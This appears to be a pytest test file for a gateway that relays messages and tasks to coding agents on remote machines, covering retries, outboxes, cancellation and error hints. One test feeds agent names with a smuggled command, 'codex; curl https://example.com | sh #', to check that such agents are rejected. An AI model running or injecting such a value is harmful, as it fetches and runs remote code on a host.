"""A gateway's tasks on other machines: what is sent there, how often, and what callers are told of the outbox."""

from __future__ import annotations

import json
from collections.abc import AsyncGenerator, Awaitable, Callable
from contextlib import closing
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from synapse.core.agent import READY, AgentEntry
from synapse.core.caller import GATEWAY_SCOPE, Caller
from synapse.core.errors import (
    AgentExited,
    AgentFailed,
    AgentNotFound,
    AgentNotResponding,
    AmbiguousTarget,
    Conflict,
    LinkDown,
    MachineAway,
    OutcomeUnknown,
    RateLimited,
    SynapseError,
    TaskNotCancelable,
    TaskNotFound,
    Unauthenticated,
    from_wire,
    to_wire,
)
from synapse.core.events import TaskEvent
from synapse.core.message import Message, MessageId, Role, TextPart
from synapse.core.override import override
from synapse.core.requests import (
    CancelTask,
    ChangeTask,
    CommandResult,
    DeleteTask,
    GetTask,
    GetTimeline,
    HostCommand,
    ListTasks,
    SendAndFollow,
    SendAndWait,
    SendMessage,
    SubscribeTask,
)
from synapse.core.task import ReceiptStep, Task, TaskState
from synapse.gateway.directory import GatewayAgent, GatewayDirectory
from synapse.gateway.gateway import describe
from synapse.gateway.remote import RemoteAgents, RemoteHosts
from synapse.gateway.tasks import GatewayFleet, GatewayTasks
from synapse.link.asking import MachineSilent, no_connection
from synapse.net.hosts import UnixHostClient
from synapse.store.codec import encode_events, encode_task
from synapse.store.replica import ReplicaFile
from synapse.tasks.feed import Feed, LogFollower
from synapse.tasks.journal import Journal, rebuild
from tests.fakes.clock import FakeClock
from tests.fakes.facts import handed, moved, numbered, opened, stepped
from tests.fakes.gateway_world import FakeStopped
from tests.fakes.leased_fleet_store import LeasedFleetStore
from tests.fakes.shipped_log import ShippedMachine, take_all

LAPTOP = Caller(scope="key:laptop", name="laptop")
CODEX = AgentEntry("synapse-codex-8120", "codex", name="codex", inbox="codex", socket="/run/proxy.sock")
AGENT = "codex@box2"


def proxy(name: str = AGENT, inbox: str = "box2!codex") -> AgentEntry:
    """Return an agent as the link shows it with its proxy."""
    return AgentEntry("synapse-codex-8120@box2", "codex", name=name, inbox=inbox, socket=CODEX.socket)


class FakeProxies:
    """The proxy sockets of the link: they take every command, after the failures that the test wants."""

    def __init__(self) -> None:
        self.commands: list[HostCommand] = []
        self.reached: list[str] = []
        """The inboxes whose commands and screens came through."""
        self.failures: list[SynapseError] = []
        self.result = CommandResult(task_id=numbered(1))

    async def command(self, agent: AgentEntry, request: HostCommand, _caller: Caller) -> CommandResult:
        self.commands.append(request)
        self._reach(agent)
        return self.result

    async def screen(self, agent: AgentEntry, *, lines: int, known: str) -> dict[str, Any]:
        self._reach(agent)
        return {"lines": [known] * lines}

    async def follow_terminal(self, agent: AgentEntry) -> None:
        self._reach(agent)

    async def watch_status(self, agent: AgentEntry) -> AsyncGenerator[dict[str, Any]]:
        self._reach(agent)
        yield {"state": READY}

    def _reach(self, agent: AgentEntry) -> None:
        if self.failures:
            raise self.failures.pop(0)
        self.reached.append(agent.inbox)


class FakeLinkAgents(RemoteAgents):
    """Asks a link that knows codex on box2."""

    listed: AgentEntry = CODEX
    present = True
    since = "noon"
    is_silent = False
    ships = True
    is_running = True
    """Whether codex is listed."""
    recalled: dict[str, Any] | SynapseError
    kept: Task | SynapseError = TaskNotFound(numbered(1))
    """What the outbox has of the only task."""
    events: tuple[TaskEvent, ...] = ()
    """Those of the only task on box2, as that machine tells them."""
    answers: list[SynapseError | tuple[TaskEvent, ...]]
    """What comes of each ask for events before the next one."""
    found: AgentEntry | SynapseError = proxy()
    """What the link finds by a name."""

    @override
    async def ask_link(self, method: str, path: str, body: bytes = b"") -> dict[str, Any]:
        machine = {"name": "box2", "present": self.present, "since": self.since, "ships_log": self.ships}
        if path.endswith("/events"):
            return self._tell_events(json.loads(body))
        if path == f"/fleet/outbox/{numbered(1)}":
            if isinstance(self.kept, SynapseError):
                raise self.kept
            return {"task": encode_task(self.kept)}
        if path == "/fleet/agents" and self.is_silent:
            raise LinkDown("the link does not answer")
        if path == "/fleet/agents":
            agent = {**self.listed.shown(), "machine": "box2", "state": READY}
            return {"agents": [agent] if self.present and self.is_running else [], "machines": [machine]}
        if path == "/fleet/outbox/cancel":
            if isinstance(self.recalled, SynapseError):
                raise self.recalled
            return {"message": {}, "task": self.recalled}
        assert path == "/fleet/proxies"
        asked = json.loads(body)
        assert asked["exact"], "keys name agents exactly"
        return self._open_proxy(keeps=asked["queue"])

    def _open_proxy(self, *, keeps: bool) -> dict[str, Any]:
        if isinstance(self.found, SynapseError):
            raise self.found
        if not self.is_running and not keeps:
            raise AgentNotFound(AGENT)
        return {"agent": {**self.found.shown(), "socket": CODEX.socket}}

    def _tell_events(self, asked: dict[str, Any]) -> dict[str, Any]:
        assert (asked["machine"], asked["caller"]["scope"]) == ("box2", LAPTOP.scope)
        if self.answers:
            answer = self.answers.pop(0)
            if isinstance(answer, SynapseError):
                raise answer
            self.events += answer
        if not self.events:
            raise TaskNotFound(numbered(1))
        told = list(enumerate(self.events, 1))[asked["after"] :]
        return {"events": [[seq, encode_events((event,))] for seq, event in told], "more": False}


@dataclass
class World:
    tasks: GatewayTasks
    agents: FakeLinkAgents
    proxies: FakeProxies
    store: LeasedFleetStore
    client: UnixHostClient

    async def leave(self) -> None:
        """Take box2 away."""
        self.agents.present = False
        await self.agents.read()


@pytest.fixture
async def world(tmp_path: Path) -> AsyncGenerator[World]:
    store, clock, proxies = await LeasedFleetStore.open(tmp_path), FakeClock(), FakeProxies()
    client: UnixHostClient = proxies  # type: ignore[assignment]  # a fake of the methods that these tests need
    agents = FakeLinkAgents(tmp_path, "gate", client, clock)
    agents.answers = []
    await agents.read()
    journal = Journal(store)
    tail = LogFollower(store, journal, gather_seconds=0.001)
    ids = ["chosen-2", "chosen-1"]
    tasks = GatewayTasks(
        GatewayDirectory(agents, machine="gate"),
        store=store,
        journal=journal,
        feed=Feed(journal, store, source=tail),
        tail=tail,
        stopped=FakeStopped(store),  # type: ignore[arg-type]  # only tasks of this machine reach it
        fleet=GatewayFleet(agents, store, clock, ids.pop),
    )
    yield World(tasks, agents, proxies, store, client)
    await store.close()


def say(message_id: str = "") -> SendMessage:
    message = Message(message_id=MessageId(message_id), role=Role.USER, parts=(TextPart(text="hello"),))
    return SendMessage(message=message, dialect="a2a_v1", exact=True)


@pytest.mark.parametrize(
    "failure",
    [
        OutcomeUnknown("codex", 0, "codex"),
        from_wire(to_wire(MachineSilent("box2", "no answer within 8 seconds"))),
    ],
    ids=["link", "machine"],
)
async def test_a_message_that_may_have_arrived_is_not_sent_again(world: World, failure: SynapseError) -> None:
    world.proxies.failures.append(failure)

    with pytest.raises(OutcomeUnknown) as raised:
        await world.tasks.of(AGENT).send(say(), LAPTOP)

    [sent] = world.proxies.commands
    assert isinstance(sent, SendMessage)
    assert sent.message.message_id == "chosen-1"
    assert "'chosen-1'" in raised.value.hint


async def test_a_message_that_was_not_sent_is_sent_again_with_the_same_id(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.REPLICA_SECONDS", 0.0)
    world.proxies.failures.append(AgentNotResponding("codex", 0, "codex"))

    task = await world.tasks.of(AGENT).send(say(), LAPTOP)

    sent = [one.message.message_id for one in world.proxies.commands if isinstance(one, SendMessage)]
    assert sent == ["chosen-1", "chosen-1"]
    assert task.history[0].message_id == "chosen-1"


@pytest.mark.parametrize(
    "told",
    [
        AgentEntry("synapse-codex-8120", "codex", name="codex; curl https://example.com | sh #"),
        AgentEntry("codex; curl https://example.com | sh #", "codex"),
    ],
)
async def test_an_agent_with_a_name_that_no_agent_can_have_is_not_listed(world: World, told: AgentEntry) -> None:
    world.agents.listed = told

    await world.agents.read()

    assert world.agents() == ()


@pytest.mark.parametrize("name", ["codex@box2", "codex-8120@box2"], ids=["profile", "profile and port"])
async def test_a_message_for_a_name_that_no_agent_has_reaches_none_of_that_profile(world: World, name: str) -> None:
    world.agents.is_running = False
    await world.agents.read()
    world.agents.found = proxy("bob@box2", "box2!bob")

    with pytest.raises(AgentNotFound):
        await world.tasks.of(name, queue=True).send(say("m-1"), LAPTOP)

    assert world.proxies.commands == []


async def test_an_agent_without_a_name_is_known_by_its_id(world: World) -> None:
    world.agents.found = proxy("codex-8120@box2", "box2!codex@/proj")

    await world.tasks.of("synapse-codex-8120@box2", queue=True).send(say("m-1"), LAPTOP)

    assert len(world.proxies.commands) == 1


UNNAMED = "synapse-codex-8120@box2"
FOLDERS = ("codex@/proj-a", "codex@/proj-b")


async def restart(world: World, inbox: str) -> None:
    """Start an agent without a name on box2, in the folder of its inbox; it gets the port of the one before."""
    world.agents.listed = AgentEntry("synapse-codex-8120", "codex", port=8120, inbox=inbox)
    world.agents.found = proxy("codex-8120@box2", f"box2!{inbox}")
    await world.agents.read()


async def test_a_message_to_a_name_that_means_another_agent_by_now_reaches_that_one(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.REPLICA_SECONDS", 0.0)
    for inbox in FOLDERS:
        await restart(world, inbox)
        await world.tasks.of(UNNAMED).send(say(f"m-{inbox}"), LAPTOP)

    assert world.proxies.reached == [f"box2!{inbox}" for inbox in FOLDERS]


async def test_the_screen_of_a_name_that_means_another_agent_by_now_is_of_that_one(world: World) -> None:
    for inbox in FOLDERS:
        await restart(world, inbox)
        [agent] = world.agents()
        await agent.screen(lines=1, known="")

    assert world.proxies.reached == [f"box2!{inbox}" for inbox in FOLDERS]


async def send_to(agent: GatewayAgent) -> None:
    await agent.command(say("m-1"), LAPTOP)


async def read_screen(agent: GatewayAgent) -> None:
    await agent.screen(lines=1, known="")


async def follow_terminal(agent: GatewayAgent) -> None:
    assert agent.open_terminal is not None
    await agent.open_terminal(agent.entry)


async def watch_status(agent: GatewayAgent) -> None:
    await anext(agent.watch_status())


@pytest.mark.parametrize("act", [send_to, read_screen, follow_terminal, watch_status], ids=lambda act: act.__name__)
async def test_an_agent_that_has_stopped_is_told_by_its_name_and_not_by_its_folder(
    world: World, act: Callable[[GatewayAgent], Awaitable[None]]
) -> None:
    await restart(world, FOLDERS[0])
    [agent] = world.agents()
    world.proxies.failures.append(AgentNotFound(FOLDERS[0], hint="running agents: secret"))

    with pytest.raises(AgentNotFound) as raised:
        await act(agent)

    told = str(raised.value) + raised.value.hint
    assert UNNAMED in told
    assert "proj-a" not in told
    assert "secret" not in told


@pytest.mark.parametrize(
    "refusal",
    [AgentNotFound("ghost", hint="running agents: secret"), AmbiguousTarget("ghost", ["secret", "other"])],
    ids=["none", "several"],
)
async def test_a_name_that_means_no_agent_tells_nothing_of_others(world: World, refusal: SynapseError) -> None:
    world.agents.found = refusal

    with pytest.raises(AgentNotFound) as raised:
        await world.tasks.of("ghost@box2", queue=True).send(say("m-1"), LAPTOP)

    assert "secret" not in str(raised.value) + raised.value.hint


@pytest.mark.parametrize(
    "request_",
    [CancelTask(numbered(1), exact=True), ChangeTask(task_id=numbered(1)), DeleteTask(task_id=numbered(1))],
    ids=["cancel", "change", "delete"],
)
async def test_a_task_of_an_agent_that_has_stopped_is_changed_on_its_machine(
    world: World, request_: CancelTask | ChangeTask | DeleteTask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.REPLICA_SECONDS", 0.0)
    world.proxies.result = CommandResult(task_id=numbered(1), version=1, state="submitted")
    await world.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    world.agents.recalled = TaskNotFound(numbered(1))
    world.agents.is_running = False
    await world.agents.read()
    world.agents.hosts = RemoteHosts(world.agents, world.client)  # no proxy is known from before

    match request_:
        case CancelTask():
            await world.tasks.cancel(request_, LAPTOP)
        case ChangeTask():
            await world.tasks.change(request_, LAPTOP)
        case DeleteTask():
            await world.tasks.delete(request_, LAPTOP)

    assert world.proxies.commands[-1] == request_


async def test_only_a_message_can_be_kept_for_a_machine_that_is_away(world: World) -> None:
    task = await world.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    await world.leave()

    with pytest.raises(MachineAway) as refused:
        await world.tasks.change(ChangeTask(task_id=task.id, metadata={"a": 1}), LAPTOP)

    assert "Synapse-Queue" not in refused.value.hint
    assert "when the machine is back" in refused.value.hint


async def test_a_proxy_socket_that_names_no_machine_keeps_its_sentence_and_says_how_to_keep_a_message(
    world: World,
) -> None:
    world.proxies.failures.append(from_wire({"code": "machine_away", "message": "the machine box2 is away"}))

    with pytest.raises(MachineAway, match="the machine box2 is away") as raised:
        await world.tasks.of(AGENT).send(say("m-1"), LAPTOP)

    assert "Synapse-Queue" in raised.value.hint


@pytest.mark.parametrize(
    ("problem", "told"),
    [
        (
            str(no_connection("nothing listens")),
            "the gateway's machine has no connection to the fleet: nothing listens",
        ),
        ("the link does not run", "the gateway's machine has no connection to the fleet: the link does not run"),
    ],
)
async def test_a_gateway_without_a_connection_says_so_once(world: World, problem: str, told: str) -> None:
    world.agents.problem = problem

    with pytest.raises(LinkDown) as raised:
        world.agents.require_present("box2")

    assert str(raised.value) == told


async def test_an_agent_whose_machine_is_away_has_the_state_that_it_told_last(world: World) -> None:
    world.agents.since = "2026-01-02T10:00:00+00:00"
    await world.leave()

    [agent] = world.agents()
    listed = describe(agent, await agent.state())
    assert (listed.state, listed.away_since) == (READY, datetime(2026, 1, 2, 10, tzinfo=UTC))
    world.agents.present = True
    await world.agents.read()
    [agent] = world.agents()
    assert describe(agent, await agent.state()).away_since is None


async def test_a_gateway_that_hears_nothing_from_its_link_takes_no_time_of_presence_for_one_of_absence(
    world: World,
) -> None:
    world.agents.since = "2026-01-02T10:00:00+00:00"
    await world.agents.read()
    world.agents.is_silent = True
    await world.agents.read()

    [agent] = world.agents()
    assert agent.is_away
    assert "2026-01-02" not in agent.description


async def kept(world: World) -> Task:
    await world.leave()
    task = await world.tasks.of(AGENT, queue=True).send(say("m-1"), LAPTOP)
    assert task.metadata["outbox"] == "open"
    return task


@pytest.mark.parametrize(
    ("state", "note"), [(TaskState.SUBMITTED, "box2 has yet to confirm it"), (TaskState.CANCELED, "canceled")]
)
async def test_a_kept_message_is_canceled_only_when_that_is_certain(world: World, state: TaskState, note: str) -> None:
    task = await kept(world)
    world.agents.recalled = {"state": state.value, "reason": "", "note": note}

    canceled = await world.tasks.of(AGENT).cancel(CancelTask(task.id), LAPTOP)

    assert (canceled.id, canceled.state, canceled.note) == (task.id, state, note)
    assert (await world.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).state is state


@pytest.mark.parametrize("refusal", [TaskNotFound(numbered(1)), Conflict("box2 has taken it")], ids=["absent", "taken"])
async def test_a_task_that_was_not_shipped_is_canceled_on_its_machine(
    world: World, refusal: SynapseError, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.REPLICA_SECONDS", 0.0)
    world.proxies.result = CommandResult(task_id=numbered(1), version=1, state="working")
    task = await world.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    world.agents.recalled = refusal
    world.proxies.result = CommandResult(task_id=task.id, version=4, state="canceled")

    canceled = await world.tasks.of(AGENT).cancel(CancelTask(task.id), LAPTOP)

    assert world.proxies.commands[-1] == CancelTask(task.id, exact=True)
    assert (canceled.state, canceled.version) == (TaskState.CANCELED, 4)
    assert (await world.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).state is TaskState.CANCELED


@pytest.mark.parametrize("state", [TaskState.COMPLETED, TaskState.FAILED, TaskState.REJECTED])
async def test_a_kept_message_that_has_ended_is_not_canceled(world: World, state: TaskState) -> None:
    task = await kept(world)
    world.agents.recalled = {"state": state.value, "reason": "uncertain", "note": "lost"}

    with pytest.raises(TaskNotCancelable):
        await world.tasks.of(AGENT).cancel(CancelTask(task.id), LAPTOP)

    assert (await world.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).state is state


def in_outbox(state: TaskState = TaskState.SUBMITTED, outbox: str = "open", scope: str = LAPTOP.scope) -> Task:
    """Return the task of a message to box2 as the link's outbox has it."""
    about = {"outbox": outbox, GATEWAY_SCOPE: scope}
    task = rebuild(None, (opened(numbered(1), inbox="box2!codex", context_id="c-1", metadata=about),))
    return replace(task, state=state)


async def test_a_kept_message_is_found_by_a_gateway_that_has_not_sent_it(world: World) -> None:
    await world.leave()
    world.agents.kept = in_outbox()

    for service in (world.tasks, world.tasks.of(AGENT)):
        task = await service.get(GetTask(numbered(1)), LAPTOP)
        assert (task.scope, task.state, task.metadata["outbox"]) == (LAPTOP.scope, TaskState.SUBMITTED, "open")
        with pytest.raises(TaskNotFound):
            await service.get(GetTask(numbered(1)), Caller(scope="key:other"))
    world.agents.recalled = {"state": "canceled", "reason": "canceled", "note": ""}
    assert (await world.tasks.of(AGENT).cancel(CancelTask(numbered(1)), LAPTOP)).state is TaskState.CANCELED


async def test_a_message_of_this_machine_in_the_outbox_is_not_of_a_key(world: World) -> None:
    await world.leave()
    world.agents.kept = in_outbox(scope="")

    with pytest.raises(TaskNotFound):
        await world.tasks.get(GetTask(numbered(1)), LAPTOP)
    assert (await world.tasks.get(GetTask(numbered(1)), Caller())).scope == "machine:gate"


OWN_PROCESS = Caller(only_from="gate")
"""A process on the gateway's machine that is no person's."""


async def test_a_process_finds_its_message_before_the_other_machine_tells_of_it(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.REPLICA_SECONDS", 0.0)

    task = await world.tasks.of(AGENT).send(say("m-1"), OWN_PROCESS)

    assert (await world.tasks.get(GetTask(task.id), OWN_PROCESS)).id == task.id


async def test_a_process_finds_its_message_in_the_outbox(world: World) -> None:
    await world.leave()
    waiting = in_outbox(scope="local")
    sender = {"sender": {"sender_id": "key.local"}, "sender_verified": True}
    world.agents.kept = replace(waiting, metadata={**waiting.metadata, **sender})

    assert (await world.tasks.get(GetTask(numbered(1)), OWN_PROCESS)).id == numbered(1)


async def test_a_message_that_was_taken_back_is_its_callers_after_a_restart_of_the_gateway(
    world: World, tmp_path: Path
) -> None:
    box2 = await ShippedMachine.open("box2", tmp_path)
    with closing(ReplicaFile.open(tmp_path / "fleet" / "replica.db")) as replica:
        await box2.keep(opened(numbered(1), scope="machine:gate"), moved(TaskState.CANCELED, numbered(1)))
        take_all(replica, box2.batches())
    await box2.store.close()
    world.agents.kept = in_outbox(TaskState.CANCELED, outbox="void")

    task = await world.tasks.get(GetTask(numbered(1)), LAPTOP)

    assert (task.scope, task.state) == (LAPTOP.scope, TaskState.CANCELED)
    with pytest.raises(TaskNotFound):
        await world.tasks.get(GetTask(numbered(1)), Caller(scope="key:other"))


async def test_a_kept_message_has_the_context_that_the_link_has_given_it(world: World) -> None:
    world.agents.kept = in_outbox()

    assert (await kept(world)).context_id == "c-1"


async def test_a_message_is_kept_although_the_outbox_cannot_be_read(world: World) -> None:
    world.agents.kept = LinkDown("it does not answer")

    task = await kept(world)

    assert (await world.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).id == task.id


async def test_what_becomes_of_a_kept_message_is_read_from_the_outbox(world: World) -> None:
    task = await kept(world)
    world.agents.kept = in_outbox(TaskState.FAILED, outbox="refused")

    assert (await world.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).state is TaskState.FAILED


async def test_a_link_that_does_not_answer_is_told_where_it_alone_could_know(world: World) -> None:
    world.agents.kept = LinkDown("it does not answer")

    with pytest.raises(LinkDown):
        await world.tasks.of(AGENT).get(GetTask(numbered(1)), LAPTOP)
    with pytest.raises(TaskNotFound):
        await world.tasks.get(GetTask(numbered(1)), LAPTOP)


@pytest.mark.parametrize("state", [TaskState.FAILED, TaskState.CANCELED])
async def test_a_stream_of_a_kept_message_ends_when_its_machine_will_not_have_it(
    world: World, state: TaskState, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.OUTBOX_SECONDS", 0.01)
    await world.leave()
    world.agents.kept = in_outbox()
    subscribed = await world.tasks.of(AGENT).subscribe(SubscribeTask(task_id=numbered(1)), LAPTOP)
    first = await anext(aiter(subscribed))
    world.agents.kept = in_outbox(state, outbox="void")
    rest = [update.task.state async for update in subscribed]
    later = await world.tasks.of(AGENT).subscribe(SubscribeTask(task_id=numbered(1)), LAPTOP)

    assert (first.task.state, rest) == (TaskState.SUBMITTED, [state])
    assert [update.task.state async for update in later] == [state]


async def test_a_stream_of_a_kept_message_goes_on_at_a_machine_that_ships_no_log(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("synapse.gateway.tasks.OUTBOX_SECONDS", 0.01)
    world.agents.ships = False
    await world.leave()
    world.agents.kept = in_outbox()
    subscribed = await world.tasks.of(AGENT).subscribe(SubscribeTask(task_id=numbered(1)), LAPTOP)
    await anext(aiter(subscribed))
    accepted = in_outbox()
    world.agents.kept = replace(accepted, metadata={GATEWAY_SCOPE: LAPTOP.scope})
    world.agents.events = (OPENED, WORKS, *ANSWERS)

    assert [update.seq async for update in subscribed] == [1, 2, 3, 4]


async def test_tasks_are_listed_by_exactly_the_name_of_their_agent(world: World, tmp_path: Path) -> None:
    box2 = await ShippedMachine.open("box2", tmp_path)
    with closing(ReplicaFile.open(tmp_path / "fleet" / "replica.db")) as replica:
        await box2.keep(opened(numbered(1), inbox="bob", scope=LAPTOP.scope))
        take_all(replica, box2.batches())
    await box2.store.close()

    listed = await world.tasks.of("bob@box2").list(ListTasks(), LAPTOP)

    assert [task.id for task in listed.tasks] == [numbered(1)]
    with pytest.raises(AgentNotFound):
        await world.tasks.of("@bob@box2").list(ListTasks(), LAPTOP)


async def test_a_stream_of_a_kept_message_that_its_machine_has_by_now_goes_on_from_there(
    world: World, tmp_path: Path
) -> None:
    box2 = await ShippedMachine.open("box2", tmp_path)
    task_id, about = numbered(1), {GATEWAY_SCOPE: LAPTOP.scope}
    world.proxies.result = CommandResult(task_id=task_id, state="submitted")  # the link names no version of a kept one
    with closing(ReplicaFile.open(tmp_path / "fleet" / "replica.db")) as replica:
        taken = opened(task_id, inbox="codex", scope="machine:gate", metadata=about)
        await box2.keep(taken, moved(TaskState.WORKING, task_id))
        take_all(replica, box2.batches())
        streams = [await world.tasks.of(AGENT).send_and_follow(SendAndFollow(say("m-1")), LAPTOP)]
        first = await anext(aiter(streams[0]))
        await box2.keep(moved(TaskState.COMPLETED, task_id))
        take_all(replica, box2.batches())
        streams.append(await world.tasks.of(AGENT).send_and_follow(SendAndFollow(say("m-1")), LAPTOP))
        rest = [[update.task.state async for update in stream] for stream in streams]
    await box2.store.close()

    assert (first.task.state, rest) == (TaskState.WORKING, [[TaskState.COMPLETED], [TaskState.COMPLETED]])


OPENED = opened(numbered(1), scope=LAPTOP.scope, inbox="codex")
WORKS = moved(TaskState.WORKING, numbered(1))
ANSWERS = (
    handed("42", numbered(1)),
    moved(TaskState.COMPLETED, numbered(1)),
    stepped(ReceiptStep.ANSWERED, numbered(1)),
)
LOSSES = (MachineAway("box2", "noon"), LinkDown("no link"), from_wire(to_wire(MachineSilent("box2", "silence"))))


@pytest.fixture
async def quiet(world: World, monkeypatch: pytest.MonkeyPatch) -> World:
    """box2 ships no log, and opens a task for the first message."""
    monkeypatch.setattr("synapse.gateway.unshipped.RETRY_SECONDS", 0.0)
    world.agents.ships = False
    await world.agents.read()
    world.agents.events = (OPENED, WORKS)
    world.proxies.result = CommandResult(task_id=numbered(1), version=1, state="submitted")
    return world


async def test_a_blocking_send_survives_losses_of_a_machine_that_ships_no_log(quiet: World) -> None:
    pending = await quiet.tasks.of(AGENT).send_and_wait(SendAndWait(say("m-1")), LAPTOP)
    quiet.agents.answers = [(), *LOSSES, RateLimited("too many", seconds=0), (), ANSWERS]

    done = await pending.settled()

    assert (pending.task.state, pending.task.inbox) == (TaskState.WORKING, "box2!codex")
    assert (done.state, done.artifacts[0].parts) == (TaskState.COMPLETED, (TextPart(text="42"),))
    assert done.receipts[-1].step is ReceiptStep.ANSWERED  # also what comes after the end


async def test_a_wait_for_an_agent_that_is_gone_ends_on_a_machine_that_ships_no_log(quiet: World) -> None:
    pending = await quiet.tasks.of(AGENT).send_and_wait(SendAndWait(say("m-1")), LAPTOP)
    quiet.agents.is_running = False
    await quiet.agents.read()

    with pytest.raises(AgentExited):
        await pending.settled()


FAILED_READS = (*LOSSES, RateLimited("too many", seconds=0), AgentFailed("it cannot be understood"))


@pytest.mark.parametrize("failure", FAILED_READS, ids=lambda one: type(one).__name__)
async def test_a_message_is_accepted_although_its_task_cannot_be_read(quiet: World, failure: SynapseError) -> None:
    quiet.agents.answers = [failure]

    task = await quiet.tasks.of(AGENT).send(say("m-1"), LAPTOP)

    assert (task.id, task.state) == (numbered(1), TaskState.SUBMITTED)


@pytest.mark.parametrize("failure", FAILED_READS[:-1], ids=lambda one: type(one).__name__)
async def test_a_wait_for_an_accepted_message_survives_its_first_losses(quiet: World, failure: SynapseError) -> None:
    quiet.agents.answers = [failure, failure, ANSWERS]
    pending = await quiet.tasks.of(AGENT).send_and_wait(SendAndWait(say("m-1")), LAPTOP)
    waited = await pending.settled()
    quiet.agents.answers = [failure, failure]
    stream = await quiet.tasks.of(AGENT).send_and_follow(SendAndFollow(say("m-1")), LAPTOP)

    assert waited.state is TaskState.COMPLETED
    assert [update.task.state async for update in stream][-1] is TaskState.COMPLETED


@pytest.mark.parametrize("loss", LOSSES, ids=lambda one: type(one).__name__)
async def test_a_task_of_a_machine_that_cannot_be_asked_is_shown_as_last_known(
    quiet: World, loss: SynapseError
) -> None:
    task = await quiet.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    quiet.agents.answers = [loss]

    assert (await quiet.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)).state is TaskState.WORKING


@pytest.mark.parametrize("loss", LOSSES, ids=lambda one: type(one).__name__)
async def test_a_machine_that_cannot_be_asked_for_an_unknown_task_is_named(quiet: World, loss: SynapseError) -> None:
    quiet.agents.answers = [loss, loss]

    with pytest.raises(type(loss)):
        await quiet.tasks.of(AGENT).get(GetTask(numbered(1)), LAPTOP)
    with pytest.raises(TaskNotFound):
        await quiet.tasks.get(GetTask(numbered(1)), LAPTOP)


@pytest.mark.parametrize("is_away", [True, False], ids=["away", "silent"])
async def test_a_task_that_is_not_found_may_be_on_a_machine_that_cannot_be_asked(quiet: World, is_away: bool) -> None:
    if is_away:
        await quiet.leave()
    quiet.agents.answers = [LOSSES[2], LOSSES[2]]
    narrow = replace(LAPTOP, agents=frozenset({"ada"}))

    with pytest.raises(TaskNotFound) as told:
        await quiet.tasks.get(GetTask(numbered(1)), LAPTOP)
    with pytest.raises(TaskNotFound) as told_less:
        await quiet.tasks.get(GetTask(numbered(1)), narrow)

    assert "it may be on box2" in told.value.hint
    assert "box2" not in told_less.value.hint


async def test_a_task_that_nobody_has_is_just_not_found(quiet: World) -> None:
    quiet.agents.events = ()

    with pytest.raises(TaskNotFound) as told:
        await quiet.tasks.get(GetTask(numbered(1)), LAPTOP)

    assert told.value.hint == ""


async def test_a_task_that_its_machine_does_not_show_any_more_is_not_found(quiet: World) -> None:
    task = await quiet.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    quiet.agents.events = ()

    with pytest.raises(TaskNotFound):
        await quiet.tasks.of(AGENT).get(GetTask(task.id), LAPTOP)


async def test_a_stream_from_a_machine_that_ships_no_log_ends_with_the_task_or_the_key(quiet: World) -> None:
    task = await quiet.tasks.of(AGENT).send(say("m-1"), LAPTOP)
    quiet.agents.answers = [(), (), LOSSES[0], ANSWERS]
    stream = await quiet.tasks.of(AGENT).subscribe(SubscribeTask(task_id=task.id), LAPTOP)
    seen = [(update.seq, update.event) async for update in stream]

    assert seen == [(2, None), (3, ANSWERS[0]), (4, ANSWERS[1])]
    resumed = await quiet.tasks.of(AGENT).subscribe(SubscribeTask(task_id=task.id, after=3), LAPTOP)
    assert [update.seq async for update in resumed] == [4]
    timeline = await quiet.tasks.timeline(GetTimeline(task_id=task.id, after=1, limit=3), LAPTOP)
    assert ([one.seq for one in timeline.events], timeline.next_after) == ([2, 3, 4], 4)
    late = replace(LAPTOP, holds=lambda: False)
    revoked = await quiet.tasks.of(AGENT).subscribe(SubscribeTask(task_id=task.id), late)
    with pytest.raises(Unauthenticated):
        await anext(aiter(revoked))
